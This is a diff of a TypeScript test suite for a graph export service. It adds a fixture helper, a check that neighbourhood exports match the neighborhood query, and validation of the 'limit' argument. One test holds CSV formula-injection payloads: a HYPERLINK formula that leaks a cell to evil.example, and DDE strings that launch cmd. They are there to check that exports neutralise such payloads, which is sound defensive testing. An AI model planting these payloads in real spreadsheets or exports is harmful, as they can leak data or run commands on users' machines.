@@ -2,6 +2,7 @@ import { SaxesParser } from 'saxes';
 import { parse as parseCsv } from 'csv-parse/sync';
 import yauzl from 'yauzl';
 import { startTestService, TestService } from '../support/testService';
+import { runFixture } from '../support/cypherFixture';
 
 // Texts a careless exporter breaks: separators and quotes for CSV, markup characters for XML,
 // a control character XML 1.0 cannot carry at all (it must be dropped, not break the file).
@@ -17,13 +18,13 @@ let t: TestService;
 
 beforeAll(async () => {
   t = await startTestService();
-  await t.db.write('../test/cypher/delete-test-entities');
-  await t.db.write('../test/cypher/create-export-test-entity', TRICKY);
+  await runFixture(t.db, 'delete-test-entities');
+  await runFixture(t.db, 'create-export-test-entity', TRICKY);
 });
 
 afterAll(async () => {
-  await t.db.write('../test/cypher/delete-test-entities');
-  await t.db.write('../test/cypher/delete-generated');
+  await runFixture(t.db, 'delete-test-entities');
+  await runFixture(t.db, 'delete-generated');
   await t.stop();
 });
 
@@ -39,7 +40,7 @@ async function download(query: string): Promise<Download> {
 }
 
 async function graphCounts(): Promise<{ nodes: number; relationships: number }> {
-  const [row] = await t.db.read('../test/cypher/graph-counts');
+  const [row] = await runFixture(t.db, 'graph-counts');
   return { nodes: Number(row.nodes), relationships: Number(row.relationships) };
 }
 
@@ -209,7 +210,7 @@ test('Export: CSV cells starting like a formula (= + - @ tab CR) come out behind
   const starts = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
   const partners = starts.map((text, i) => ({ id: `partner:test-formula-${i}`, name: text, aliases: [text, 'plain'], description: text, excerpt: text }));
   // afterAll removes them with the other test entities.
-  await t.db.write('../test/cypher/create-test-partners', { partners });
+  await runFixture(t.db, 'create-test-partners', { partners });
   const files = await unzip((await download('?format=csv')).body);
   const nodes = parseCsv(files['nodes.csv'], { columns: true }) as Record<string, string>[];
   const relationships = parseCsv(files['relationships.csv'], { columns: true }) as Record<string, string>[];
@@ -249,7 +250,48 @@ test('Export: a neighbourhood holds the entities within depth hops and the relat
   expect(graphml.edges).toHaveLength(one.graph.relationships.length);
 });
 
-test('Export: bad format, depth out of range and unknown ids are refused with a JSON error naming the argument', async () => {
+const NEIGHBOURHOOD_QUERY = `
+  query ($id: ID!, $depth: Int, $limit: Int) {
+    neighborhood(id: $id, depth: $depth, limit: $limit) { nodes { id } relationships { type from { id } to { id } } truncated }
+  }
+`;
+
+interface NeighbourhoodJson {
+  nodes: { id: string }[];
+  relationships: { type: string; from: { id: string }; to: { id: string } }[];
+  truncated: boolean;
+}
+
+test('Export: a neighbourhood export holds the same entities, in the same order, and relationships as the neighborhood query', async () => {
+  const cases = [
+    { id: 'workshop:western-balkans-durres-2017', depth: 1, limit: 1000 },
+    { id: 'workshop:western-balkans-durres-2017', depth: 2, limit: 1000 },
+    { id: 'workshop:western-balkans-durres-2017', depth: 3, limit: 1000 },
+    { id: 'workshop:western-balkans-durres-2017', depth: 2, limit: 30 },
+    { id: 'city:durres', depth: 3, limit: 12 },
+    { id: 'network:scn', depth: 1, limit: 1 },
+  ];
+  let truncatedCases = 0;
+  for (const { id, depth, limit } of cases) {
+    const { neighborhood } = await t.client.request<{ neighborhood: NeighbourhoodJson }>(NEIGHBOURHOOD_QUERY, { id, depth, limit });
+    const exported = await jsonExport(`?format=json&id=${encodeURIComponent(id)}&depth=${depth}&limit=${limit}`);
+    const what = `${id} at depth ${depth}, limit ${limit}`;
+    expect([what, exported.graph.nodes.map((n) => n.id)]).toEqual([what, neighborhood.nodes.map((n) => n.id)]);
+    const key = (r: { type: string; from: string; to: string }) => `${r.type} ${r.from} ${r.to}`;
+    expect([what, exported.graph.relationships.map(key)]).toEqual([
+      what,
+      neighborhood.relationships.map((r) => key({ type: r.type, from: r.from.id, to: r.to.id })),
+    ]);
+    expect([what, exported.res.headers.get('x-export-truncated') === 'true']).toEqual([what, neighborhood.truncated]);
+    if (neighborhood.truncated) truncatedCases += 1;
+    expect(neighborhood.nodes.length).toBeLessThanOrEqual(limit);
+  }
+  // The cases cover both a neighbourhood the limit cuts and whole ones.
+  expect(truncatedCases).toBeGreaterThanOrEqual(2);
+  expect(truncatedCases).toBeLessThan(cases.length);
+});
+
+test('Export: bad format, depth or limit out of range and unknown ids are refused with a JSON error naming the argument', async () => {
   const format = await download('?format=xlsx');
   expect(format.status).toBe(400);
   expect(JSON.parse(format.body.toString())).toEqual({ error: { code: 'BAD_USER_INPUT', argument: 'format', message: expect.stringMatching(/format.*graphml, json, csv/) } });
@@ -261,6 +303,11 @@ test('Export: bad format, depth out of range and unknown ids are refused with a 
   expect(depthError).toMatchObject({ code: 'BAD_USER_INPUT', argument: 'depth', maximum: 3 });
   expect(depthError.message).toMatch(/depth.*3/);
   expect((await download('?format=json&id=city:durres&depth=0')).status).toBe(400);
+  const limit = await download('?format=json&id=city:durres&limit=5001');
+  expect(limit.status).toBe(400);
+  expect(JSON.parse(limit.body.toString()).error).toMatchObject({ code: 'BAD_USER_INPUT', argument: 'limit', maximum: 5000 });
+  for (const bad of ['&limit=0', '&limit=ten', '&limit=-3']) expect((await download(`?format=json&id=city:durres${bad}`)).status).toBe(400);
+  expect(JSON.parse((await download('?format=json&limit=10')).body.toString()).error).toMatchObject({ argument: 'limit' });
 
   const missing = await download('?format=graphml&id=city:atlantis');
   expect(missing.status).toBe(404);
@@ -271,8 +318,8 @@ test('Export: bad format, depth out of range and unknown ids are refused with a 
 
 describe('with a generated graph of about 55,000 relationships', () => {
   beforeAll(async () => {
-    await t.db.write('../test/cypher/delete-generated');
-    await t.db.write('../test/cypher/generate-graph', { regions: 2, countries: 20, cities: 6000, themes: 10 });
+    await runFixture(t.db, 'delete-generated');
+    await runFixture(t.db, 'generate-graph', { regions: 2, countries: 20, cities: 6000, themes: 10 });
   });
 
   test('Export: a neighbourhood past 5,000 entities keeps the nearest 5,000 and says it was truncated', async () => {
